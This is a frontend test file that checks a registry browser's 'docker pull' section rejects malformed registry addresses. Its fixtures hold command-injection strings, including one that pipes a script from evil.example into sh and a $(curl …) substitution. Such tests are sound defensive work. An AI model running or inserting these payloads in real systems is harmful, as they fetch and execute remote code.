import { configure, screen, within } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { getPlatform } from '@/test/fake-platform';
import { renderApp } from '@/test/render-app';

configure({ asyncUtilTimeout: 5_000 });

const MOCK_MODE = { mocks: true, auth: { mode: 'mock' } };
const ARTIFACT = '/images/skaha/astroml-notebook/-/26.03';
const HOSTILE = 'images.canfar.net; curl https://evil.example/x | sh #';

const pullSection = async () =>
  within(await screen.findByRole('region', { name: 'Pull' }, { timeout: 8_000 }));

describe('the registry address in pull commands', () => {
  it('takes skaha’s registry host when Harbor’s registry_url is not a plain host', async () => {
    getPlatform().harbor.registryUrl = HOSTILE;
    await renderApp({ route: ARTIFACT, config: MOCK_MODE });
    const pull = await pullSection();
    expect(
      await pull.findByText('docker pull images.canfar.net/skaha/astroml-notebook:26.03'),
    ).toBeInTheDocument();
    expect(screen.queryByText(/evil\.example/)).not.toBeInTheDocument();
  });

  it('shows no pull command when no service gives a usable host, and says why', async () => {
    getPlatform().harbor.registryUrl = HOSTILE;
    getPlatform().skaha.registryHosts = ['$(curl evil.example)'];
    await renderApp({ route: ARTIFACT, config: MOCK_MODE });
    const pull = await pullSection();
    expect(
      await pull.findByText('The registry did not give a usable address, so no pull command is shown.'),
    ).toBeInTheDocument();
    expect(screen.queryByText(/docker pull/)).not.toBeInTheDocument();
    expect(screen.queryByRole('link', { name: /^Launch as/ })).not.toBeInTheDocument();
  });
});
